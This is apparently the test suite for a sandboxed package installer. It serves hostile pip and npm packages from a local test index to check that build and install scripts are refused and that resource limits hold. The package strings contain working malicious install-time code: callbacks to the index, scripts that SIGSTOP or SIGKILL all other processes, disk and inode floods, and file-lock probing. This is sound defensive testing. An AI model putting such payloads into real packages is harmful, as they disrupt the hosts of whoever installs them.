"""Packages whose author is hostile: what their code reaches while they are installed, and what they can use up. And whoever has
so much installed that nothing is left for others.

An installer is let out to the sources of packages and writes the files of a sandbox that is not. On a network of the test's own, with an index on which the author has packages.
On container engines by with_engine.py --network.
"""

import threading

from common import NONE, ON_OCI, Common, Server, Skip, Suite, clear, contains, equal, needs_runtime, poll
import net as nets
from tenants import Tenants
import wheels

needs_runtime()
net = nets.enter()
# What runs and what it reaches is shown on engines, too; which of an index's files are looked at is decided by pip and by our program in front of it.
suite = Suite()
index = wheels.Index(net.listen(8080), f"http://{nets.NAME}:8080")

# What its author hears is what asks for /heard.
TELL = f"import urllib.request\ntry:\n    urllib.request.urlopen('{index.base}/heard-NAME')\nexcept Exception:\n    pass\n"
BUILD = "raise SystemExit('that was all')\n"
index.add(wheels.sdist("telling", "1.0", setup=TELL.replace("NAME", "setup") + BUILD))
index.add(wheels.wheel("harmless", "1.0", requires=["telling"]))
index.add(wheels.wheel("by-url", "1.0", requires=[f"telling @ {index.base}/files/telling-1.0.tar.gz"]))
index.add(wheels.wheel("both-ways", "1.0"))
index.add(wheels.sdist("both-ways", "2.0", setup=TELL.replace("NAME", "newer") + BUILD))
# Names as indexes have them from before there were rules.
for package, end in (("old-names", "-1.0.linux-x86_64"), ("old-names", "-dev"), ("old-names", ""), ("no-version", "-dev")):
    index.add(wheels.Package(package, "1.0", f"{package}{end}.tar.gz", b""))
index.add(wheels.sdist("old-names", "1.0", setup=BUILD))
BY_PROXY = f'u=new URL(process.env.http_proxy);require("http").get({{host:u.hostname,port:u.port,path:"{index.base}/heard-script"}})'
FETCH = f"node -e '{BY_PROXY}'"
index.add(wheels.npm("scripted", "1.0.0", scripts={"preinstall": FETCH, "install": FETCH, "postinstall": FETCH}))
index.add(wheels.npm("through", "1.0.0", requires={"scripted": "^1.0.0"}))
index.add(wheels.npm("by-git", "1.0.0", requires={"scripted": f"git+http://{nets.NAME}:8080/heard-git"}))

COUNT_LOCKS = f"""
import fcntl, os, urllib.request
met = 0
for top in ('/usr/bin', '/etc', '/dev'):
    for name in os.listdir(top):
        try:
            fd = os.open(os.path.join(top, name), os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
            fcntl.flock(fd, fcntl.LOCK_SH | fcntl.LOCK_NB)
        except BlockingIOError:
            met += 1
        except OSError:
            pass
urllib.request.urlopen('{index.base}/heard-locks-%d' % met)
"""
index.add(wheels.sdist("listening", "1.0", setup=COUNT_LOCKS + BUILD))

SOURCES = ("--package-index", index.pip_url, "--npm-registry", index.npm_url)
common = Common(*SOURCES)


def heard():
    return [path for _, path in index.requests if path.startswith("/heard")]


def refused(server, sandbox, name, manager="pip"):
    """Requires that a package is not taken since code of its would run, and that this is said with the option that allows it."""
    failed = server.call_failing("install_package", package_name=name, manager=manager, sandbox_id=sandbox)
    error = clear(failed["error"])
    equal((failed["status"], error["code"]), ("failed", "package_failed"), name)
    contains(error["message"], "it would have to be built")
    contains(error["hint"], "--build-packages")
    return error["message"]


@suite.case("no setup.py runs: a source, one that a wheel needs, and one that it names by URL are refused, with the option that allows them")
def builds():
    server, sandbox = common()
    contains(refused(server, sandbox, "telling"), "telling comes as source: telling-1.0.tar.gz")
    contains(refused(server, sandbox, "harmless"), "telling comes as source")
    contains(refused(server, sandbox, "by-url"), "telling")
    equal(heard(), [], "what the author has heard")


@suite.case("of a package whose newest version is a source the newest wheel is taken; a version that there is not is told as such", engines=NONE)
def newest_wheel():
    server, sandbox = common()
    done = server.call("install_package", package_name="both-ways", sandbox_id=sandbox)
    equal([(row["name"], row["version"]) for row in done["packages"]], [("both-ways", "1.0")])
    contains(refused(server, sandbox, "both-ways==2.0"), "both-ways comes as source: both-ways-2.0.tar.gz")
    failed = server.call_failing("install_package", package_name="both-ways==3.0", sandbox_id=sandbox)
    contains(failed["error"]["message"], "no such package or version")
    equal(heard(), [], "what the author has heard")


@suite.case("files whose names have no version are passed over when it is looked for what comes as source", engines=NONE)
def old_names():
    server, sandbox = common()
    contains(refused(server, sandbox, "old-names"), "old-names comes as source: old-names-1.0.tar.gz")
    failed = server.call_failing("install_package", package_name="no-version", sandbox_id=sandbox)
    contains(failed["error"]["message"], "no such package or version")


@suite.case("no script of an npm package runs, also of one that another needs, and what comes by git is refused; the output names what was left out")
def scripts():
    server, sandbox = common()
    done = server.call("install_package", package_name="through", manager="npm", sandbox_id=sandbox)
    equal(done["status"], "installed")
    contains(done["output"], "install scripts were not run: scripted 1.0.0")
    contains(done["output"], "--build-packages")
    refused(server, sandbox, "by-git", "npm")
    equal(heard(), [], "what the author has heard")


@suite.case("very many empty files are no way around --packages-mb, and leave nothing", when=ON_OCI)
def empty_files():
    names = {f"crowd/d{i // 100}/{i}": "" for i in range(6000)}
    index.add(wheels.wheel("crowd", "1.0", dict(names, **{"crowd/__init__.py": ""})))
    index.add(wheels.npm("crowd", "1.0.0", dict(names, **{"index.js": ""})))
    with Server(*SOURCES, "--packages-mb", "8") as server:
        server.legacy()
        sandbox = server.call("create_sandbox")["sandbox_id"]
        for manager, place in (("pip", "/packages/python"), ("npm", "/packages/node")):
            failed = server.call_failing("install_package", package_name="crowd", manager=manager, sandbox_id=sandbox)
            contains(failed["error"]["message"], "would take more than 8 MiB")
            contains(failed["error"]["hint"], "--packages-mb")
            count = f"import os\nsum(len(inner) + len(names) for _, inner, names in os.walk('{place}'))"
            equal(server.run(count, sandbox_id=sandbox)["result"], "0", manager)


@suite.case("where the operator allows it, they run")
def allowed():
    with Server(*SOURCES, "--build-packages") as server:
        server.legacy()
        sandbox = server.call("create_sandbox")["sandbox_id"]
        failed = server.call_failing("install_package", package_name="telling", sandbox_id=sandbox)
        contains(failed["error"]["message"], "that was all")
        equal(server.call("install_package", package_name="scripted", manager="npm", sandbox_id=sandbox)["status"], "installed")
        assert {"/heard-setup", "/heard-script"} <= set(heard()), heard()


@suite.case("one principal cannot hold all installers, nor all turns: the others' packages come while its own take for ever", when=ON_OCI)
def all_installers():
    for name in ("endless", "quick"):
        index.add(wheels.wheel(name, "1.0"))
    index.held, index.held_names = threading.Event(), "endless"
    with Tenants(("greedy", "late"), *SOURCES) as tenants:
        greedy, late = tenants.client("greedy"), tenants.client("late")
        boxes = [greedy.call("create_sandbox", memory_mb=64)["sandbox_id"] for _ in range(5)]
        for box in boxes:
            equal(greedy.call("install_package", package_name="endless", sandbox_id=box, wait=False)["status"], "installing")
        poll("two are being fetched", lambda: len(index.asked_for("/files/endless-")) >= 2)
        box = late.call("create_sandbox", memory_mb=64)["sandbox_id"]
        equal(late.call("install_package", package_name="quick", sandbox_id=box)["status"], "installed")
        equal(late.run("import quick; quick.VERSION", sandbox_id=box)["result"], "'1.0'")

        def states():
            return [greedy.call("check_package_status", package_name="endless", sandbox_id=box)["status"] for box in boxes]

        equal(states(), ["installing"] * 5, "what was asked for before")
        index.held.set()
        poll("nothing is lost of what had to wait", lambda: states() == ["installed"] * 5)
    index.held = None


# What the hostile setup.py does; it stops whoever counts beside it and never ends by itself, so that only a limit that is held from outside
# ends the installation.
STOP_OTHERS = """
import os, signal, time
for name in os.listdir('/proc'):
    if name.isdigit() and int(name) != os.getpid():
        try:
            os.kill(int(name), signal.SIGSTOP)
        except OSError:
            pass
"""
FLOODS = {
    "bytes": "for i in range(60):\n    open(f'/packages/python/flood-{i}', 'wb').write(bytes(8 << 20))\n",
    "names": "for i in range(40000):\n    os.makedirs(f'/packages/python/flood-{i % 400}', exist_ok=True)\n    open(f'/packages/python/flood-{i % 400}/{i}', 'w')\n",
    "depth": "os.chdir('/packages/python')\nfor i in range(400):\n    os.mkdir('d')\n    os.chdir('d')\n",
}
ONE_FILE = f"""
import os, urllib.request
try:
    with open('/packages/python/one', 'wb') as file:
        for i in range(200):
            file.write(bytes(1 << 20))
except OSError:
    pass
urllib.request.urlopen('{index.base}/heard-size-%d' % os.path.getsize('/packages/python/one'))
os.unlink('/packages/python/one')
"""
# It ends what counts, and then itself: so nobody but the host sees what is left.
LEAVE = f"""
import os, signal, urllib.request
for i in range(5):
    open('/packages/python/left-%d' % i, 'wb').write(bytes(8 << 20))
urllib.request.urlopen('{index.base}/heard-left')
for name in os.listdir('/proc'):
    if name.isdigit() and int(name) != os.getpid():
        try:
            os.kill(int(name), signal.SIGKILL)
        except OSError:
            pass
"""
COUNT = "import os\nsum(len(inner) + len(names) for top in ('python', 'node') for _, inner, names in os.walk(f'/packages/{top}'))"


def is_empty(server, sandbox):
    return server.run(COUNT, sandbox_id=sandbox)["result"] == "0"


@suite.case("a setup.py that writes without end is stopped from outside, by bytes, by names and where it hides them; the client is told of --packages-mb, and nothing of it stays", when=ON_OCI)
def floods():
    for name, code in FLOODS.items():
        index.add(wheels.sdist(f"flood-{name}", "1.0", setup=f"{STOP_OTHERS}{code}time.sleep(3600)\n"))
    with Server(*SOURCES, "--packages-mb", "8", "--build-packages") as server:
        server.legacy()
        sandbox = server.call("create_sandbox")["sandbox_id"]
        for name in FLOODS:
            failed = server.call_failing("install_package", package_name=f"flood-{name}", sandbox_id=sandbox)
            error = clear(failed["error"])
            equal(error["code"], "package_failed", name)
            contains(error["message"], "cannot be counted" if name == "depth" else "more than 96 MiB, of which 8 may stay")
            contains(error["hint"], "--packages-mb")
            poll(f"nothing is left of {name}", lambda: is_empty(server, sandbox))
        equal(server.call("install_package", package_name="both-ways==1.0", sandbox_id=sandbox)["status"], "installed")
        equal(server.run("import both_ways; both_ways.VERSION", sandbox_id=sandbox)["result"], "'1.0'")


@suite.case("no file of a setup.py is larger than what installing may take on the way")
def one_file():
    index.add(wheels.sdist("one-file", "1.0", setup=ONE_FILE + BUILD))
    with Server(*SOURCES, "--packages-mb", "8", "--build-packages") as server:
        server.legacy()
        sandbox = server.call("create_sandbox")["sandbox_id"]
        server.call_failing("install_package", package_name="one-file", sandbox_id=sandbox)
        equal([path for path in heard() if "size" in path], [f"/heard-size-{80 << 20}"])


@suite.case("a setup.py that ends what counts leaves nothing", when=ON_OCI)
def left():
    index.add(wheels.sdist("leaving", "1.0", setup=LEAVE))
    with Server(*SOURCES, "--packages-mb", "8", "--build-packages") as server:
        server.legacy()
        sandbox = server.call("create_sandbox")["sandbox_id"]
        failed = server.call_failing("install_package", package_name="leaving", sandbox_id=sandbox)
        assert "/heard-left" in heard(), failed
        poll("what was left is removed", lambda: is_empty(server, sandbox))


@suite.case("how the packages' size is held where their code runs is told, and is nothing for --strict")
def told():
    with Server(*SOURCES, "--build-packages") as server:
        server.legacy()
        notes = [note for note in server.call("create_sandbox")["limits"]["unapplied"] if note.startswith("packages: ")]
        equal(len(notes), 1, str(notes))
        contains(notes[0], "counted from outside" if ON_OCI else "not limited")


LOCK = """
import fcntl, os
held = []
for top in ('/usr/bin', '/etc', '/dev'):
    for name in os.listdir(top):
        try:
            held.append(os.open(os.path.join(top, name), os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY))
            fcntl.flock(held[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            pass
len(held) > 100
"""


@suite.case("code tells the setup.py of its own installer nothing by locks on files of the root, also where the operator lets that run")
def locks():
    with Server(*SOURCES, "--build-packages", "--files", "8192") as server:
        server.legacy()
        box = server.call("create_sandbox")
        for missing in box["limits"]["unapplied"]:
            if missing.startswith("private "):
                raise Skip(f"not on this host: {missing}")
        equal(server.run(LOCK, sandbox_id=box["sandbox_id"])["result"], "True")
        server.call_failing("install_package", package_name="listening", sandbox_id=box["sandbox_id"])
        equal([path for path in heard() if "locks" in path][-1], "/heard-locks-0")


@suite.case("nothing is left when all is done")
def finished():
    common()
    common.close()


suite.run()
